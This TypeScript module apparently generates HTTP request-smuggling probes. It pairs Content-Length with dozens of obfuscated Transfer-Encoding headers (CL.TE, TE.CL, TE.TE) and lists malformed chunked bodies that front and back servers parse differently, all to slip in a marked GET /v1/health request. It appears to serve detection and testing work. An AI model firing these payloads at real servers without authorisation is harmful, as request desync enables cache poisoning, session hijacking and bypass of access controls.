import { chunked, having, HOST } from './words.ts';

export const SMUGGLED = `GET /v1/health HTTP/1.1\r\n${HOST}X-Request-ID: smuggled\r\n\r\n`;

/** Ways to write a transfer encoding that one reader sees and another does not. */
const CODINGS = [
  'Transfer-Encoding: chunked',
  'TRANSFER-ENCODING: CHUNKED',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  'Transfer-Encoding\xa0: chunked',
  'Transfer-Encoding\r\n : chunked',
  ' Transfer-Encoding: chunked',
  'X: x\nTransfer-Encoding: chunked',
  'X: x\rTransfer-Encoding: chunked',
  'X: x\r\n Transfer-Encoding: chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunke',
  'Transfer-Encoding: \x0bchunked',
  'Transfer-Encoding: chunked\x0b',
  'Transfer-Encoding: chunked\0',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked chunked',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding:',
  'Transfer-Encoding: identity',
];

/** Bodies in chunks that two readers end at different places. */
const CHUNKS = [
  '1\na\r\n0\r\n\r\n',
  '1\r\na\n0\r\n\r\n',
  '1\r\na0\r\n\r\n',
  '1\r\r\na\r\n0\r\n\r\n',
  '0x1\r\na\r\n0\r\n\r\n',
  '+1\r\na\r\n0\r\n\r\n',
  '-1\r\na\r\n0\r\n\r\n',
  ' 1\r\na\r\n0\r\n\r\n',
  '1 \r\na\r\n0\r\n\r\n',
  '1\t\r\na\r\n0\r\n\r\n',
  '1_0\r\na\r\n0\r\n\r\n',
  '\r\na\r\n0\r\n\r\n',
  '1;\na\r\n0\r\n\r\n',
  '1;a\rb\r\na\r\n0\r\n\r\n',
  '1;a=\0\r\na\r\n0\r\n\r\n',
  '1;a="\n"\r\na\r\n0\r\n\r\n',
  'FFFFFFFFFFFFFFFFF\r\na\r\n0\r\n\r\n',
  '10000000000000000\r\n\r\n',
  '0\n\r\n',
  '0\r\n\n',
  '0\r\nX\0: a\r\n\r\n',
  '0\r\nX : a\r\n\r\n',
  '0\r\n X: a\r\n\r\n',
  'g\r\n\r\n',
];

/** What kind it is, and the first half of the pair. */
export function pairs(): [string, string][] {
  const length = `Content-Length: ${SMUGGLED.length + 5}`;
  const ambiguous = CODINGS.flatMap((coding): [string, string][] => [
    ['CL.TE', having(length, coding)],
    ['TE.CL', having(coding, length)],
    ['TE.TE', having(coding, 'Transfer-Encoding: chunked')],
    ['TE.TE', having('Transfer-Encoding: chunked', coding)],
  ]);
  return [
    ...ambiguous.map(([kind, head]): [string, string] => [kind, `${head}0\r\n\r\n`]),
    ...CHUNKS.map((body): [string, string] => ['chunk', chunked(body)]),
  ];
}
